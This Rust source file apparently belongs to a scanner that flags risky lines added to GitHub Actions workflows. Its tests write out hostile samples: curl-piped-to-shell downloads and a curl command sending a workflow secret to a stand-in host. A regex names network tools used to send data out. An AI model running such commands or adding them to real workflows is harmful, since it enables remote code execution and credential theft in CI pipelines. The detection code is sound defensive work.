//! What the added lines of a workflow do.

use std::sync::LazyLock;

use regex::Regex;

use super::AddedLine;
use super::roles::{GUARDED, SignalRule};
use crate::action::{Signal, visible_line};

/// Owners whose actions come with the platform itself.
const FIRST_PARTY: &[&str] = &["actions/", "github/", "./", "docker://"];
/// Longest piece of a line that is quoted.
const QUOTE: usize = 100;

struct Compiled {
    rule: &'static SignalRule,
    regex: Regex,
}

static RULES: LazyLock<Vec<Compiled>> = LazyLock::new(|| {
    let rules = GUARDED.signals.iter();
    rules.filter_map(|rule| Some(Compiled { rule, regex: Regex::new(&rule.regex).ok()? })).collect()
});

static SECRET_USE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\$\{\{[^}]*\bsecrets\b").ok());
static SENDS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(curl|wget|nc|ncat)\b.*(\s(-d|--data\S*|-F|--form|-T|--upload-file|-H|--post-data)\b|\$\w|\$\{)").ok()
});

/// One signal for each line that does something of note, naming path and line.
/// A line continued by a backslash is read together with the next.
#[must_use]
pub fn workflow_signals(path: &str, added: &[AddedLine]) -> Vec<Signal> {
    let lines = joined(added);
    let mut signals = Vec::new();
    for line in &lines {
        for Compiled { rule, regex } in RULES.iter() {
            if regex.find(&line.text).is_some_and(|found| counts(&rule.code, found.as_str())) {
                signals.push(signal(&rule.code, path, line, &rule.message));
            }
        }
    }
    let uses_secret = lines.iter().any(|line| matches(&SECRET_USE, &line.text));
    for line in lines.iter().filter(|line| uses_secret && matches(&SENDS, &line.text)) {
        let code = "workflow.secret_exfiltration";
        let stands = signal(code, path, line, "sends data out of a workflow that is given secrets");
        if !signals
            .iter()
            .any(|known| known.code == code && known.message.starts_with(&place(path, line)))
        {
            signals.push(stands);
        }
    }
    signals
}

fn matches(regex: &LazyLock<Option<Regex>>, text: &str) -> bool {
    regex.as_ref().is_some_and(|regex| regex.is_match(text))
}

/// Whether a match is worth a signal: a pinned action, or one of the platform,
/// is not.
fn counts(code: &str, found: &str) -> bool {
    if code != "workflow.unpinned_action" {
        return true;
    }
    let Some((_, action)) = found.split_once(':') else { return false };
    let action = action.trim().trim_matches(['"', '\'']);
    if FIRST_PARTY.iter().any(|owner| action.starts_with(owner)) {
        return action.starts_with("docker://") && !action.contains("@sha256:");
    }
    let reference = action.rsplit_once('@').map_or("", |(_, reference)| reference);
    !(reference.len() == 40 && reference.bytes().all(|byte| byte.is_ascii_hexdigit()))
}

fn signal(code: &str, path: &str, line: &AddedLine, message: &str) -> Signal {
    let quote: String = line.text.trim().chars().take(QUOTE).collect();
    let message = format!("{} {message}: `{}`", place(path, line), visible_line(&quote));
    Signal { code: code.to_owned(), message }
}

fn place(path: &str, line: &AddedLine) -> String {
    format!("{}:{}", visible_line(path), line.number)
}

fn joined(added: &[AddedLine]) -> Vec<AddedLine> {
    let mut lines: Vec<AddedLine> = Vec::with_capacity(added.len());
    let mut open = false;
    for line in added {
        let text = line.text.trim_end();
        match lines.last_mut() {
            Some(last) if open => last.text.push_str(text.trim_start().trim_end_matches('\\')),
            _ => lines.push(AddedLine {
                number: line.number,
                text: text.trim_end_matches('\\').to_owned(),
            }),
        }
        open = text.ends_with('\\');
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(text: &str) -> Vec<String> {
        let added: Vec<_> = text
            .lines()
            .enumerate()
            .map(|(index, text)| AddedLine { number: index + 1, text: text.to_owned() })
            .collect();
        let mut codes: Vec<_> =
            workflow_signals("w.yml", &added).into_iter().map(|signal| signal.code).collect();
        codes.dedup();
        codes
    }

    #[test]
    fn names_what_a_line_does() {
        for (line, code) in [
            ("on: [pull_request_target]", "workflow.pull_request_target"),
            ("  - run: curl -sSL https://x.example/i.sh | sudo bash", "workflow.curl_pipe_shell"),
            ("      bash <(curl -s https://x.example)", "workflow.curl_pipe_shell"),
            ("  run: curl \\\n   https://x.example \\\n   | sh", "workflow.curl_pipe_shell"),
            ("permissions: write-all", "workflow.write_all"),
            ("  - uses: someone/thing@v1", "workflow.unpinned_action"),
            ("  - uses: docker://alpine:3", "workflow.unpinned_action"),
            ("runs-on: [self-hosted, linux]", "workflow.self_hosted"),
            ("  eval \"$X\"", "workflow.eval"),
            ("  echo $X | base64 -d", "workflow.base64"),
            (
                "  run: curl https://x.example -d ${{ secrets.TOKEN }}",
                "workflow.secret_exfiltration",
            ),
            (
                "env:\n  T: ${{ secrets.T }}\nrun: curl -d \"$T\" https://x.example",
                "workflow.secret_exfiltration",
            ),
            ("  run: echo ${{ github.event.issue.title }}", "workflow.script_injection"),
        ] {
            assert!(codes(line).contains(&code.to_owned()), "{line}: {:?}", codes(line));
        }
    }

    #[test]
    fn daily_work_raises_nothing() {
        let harmless = "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    \
            steps:\n      - uses: actions/checkout@v4\n      - uses: a/b@0123456789abcdef0123456789abcdef01234567\n      \
            - run: cargo test --locked\n      - run: curl -sSfL -o tool https://x.example/tool\n";
        assert_eq!(codes(harmless), Vec::<String>::new());
    }

    #[test]
    fn every_rule_compiles() {
        assert_eq!(RULES.len(), GUARDED.signals.len());
        assert!(RULES.len() > 8);
    }
}
